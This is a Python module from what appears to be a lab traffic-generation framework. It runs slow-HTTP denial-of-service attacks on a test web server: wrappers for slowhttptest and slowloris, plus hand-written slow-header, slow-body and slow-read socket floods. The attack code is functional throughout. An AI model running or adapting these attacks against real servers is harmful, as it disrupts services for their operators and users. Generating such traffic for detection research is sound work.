"""Slow headers, bodies and reads against a web server."""

import shutil
import socket
import sys

from attacks.way import Way


def slowhttptest(mode):
    def attack(act):
        server = act.server("http")
        act.run(["slowhttptest", mode, "-c", act.pick("connections", [40, 120, 250]), "-r", act.pick("rate", [10, 40]), "-i",
                 act.pick("interval_s", [1, 3, 8]), "-l", "30", "-x", "24", "-u",
                 f"http://{server.v4}:{server.port['http']}/page"])

    return attack


def slowloris(act):
    """The registry's, in the interpreter that has it."""
    program = shutil.which("slowloris", path=sys.prefix + "/bin") or "slowloris"
    server = act.server("http")
    act.run([program, server.v4, "-p", server.port["http"], "-s", act.pick("connections", [30, 80, 150]), "--sleeptime",
             act.pick("interval_s", [1, 4, 10]), *act.pick("evasion", [[], ["-ua"]])])


def own(way):
    def attack(act):
        server, rng = act.server("http"), act.rng
        count = act.pick("connections", [12, 40, 100])
        clients, jitter = [], act.pick("jitter", [0, 0.3, 0.9])
        kind = way
        start = {"headers": b"GET /page HTTP/1.1\r\nHost: lab.test\r\n", "read": b"GET /huge HTTP/1.1\r\nHost: lab.test\r\n\r\n",
                 "body": b"POST /upload HTTP/1.1\r\nHost: lab.test\r\nContent-Length: 90000\r\n\r\n"}[kind]
        for _ in act.every(act.draw("period_s", 0.3, 6.0), jitter):
            while len(clients) < count and not act.over():
                client = socket.socket()
                if kind == "read":
                    client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 600)
                client.settimeout(3)
                try:
                    client.connect((server.v4, server.port["http"]))
                    client.sendall(start)
                except OSError:
                    break
                clients.append(client)
                if not act.pause(rng.uniform(0, 0.05)):
                    break
            for client in list(clients):
                try:
                    if kind == "read":
                        client.recv(64)
                    else:
                        client.sendall(b"X-a: %d\r\n" % rng.randrange(5000) if kind == "headers" else rng.randbytes(2))
                except OSError:
                    clients.remove(client)
                    client.close()
        for client in clients:
            client.close()

    return attack


F, LONG = "slow_http", (12, 28)
WAYS = [Way(F, tool, name, act, seconds=LONG) for tool, name, act in [
    ("slowhttptest", "headers", slowhttptest("-H")), ("slowhttptest", "body", slowhttptest("-B")),
    ("slowhttptest", "read", slowhttptest("-X")), ("slowloris", "headers", slowloris), ("ours", "headers", own("headers")),
    ("ours", "body", own("body")), ("ours", "read", own("read"))]]
WAYS += [Way(F, "ours", name, own(name), by="many", seconds=LONG) for name in ("headers", "body")]
TOOLS = {"slowhttptest": "slowhttptest", "slowloris": "pypi", "ours": "ours"}
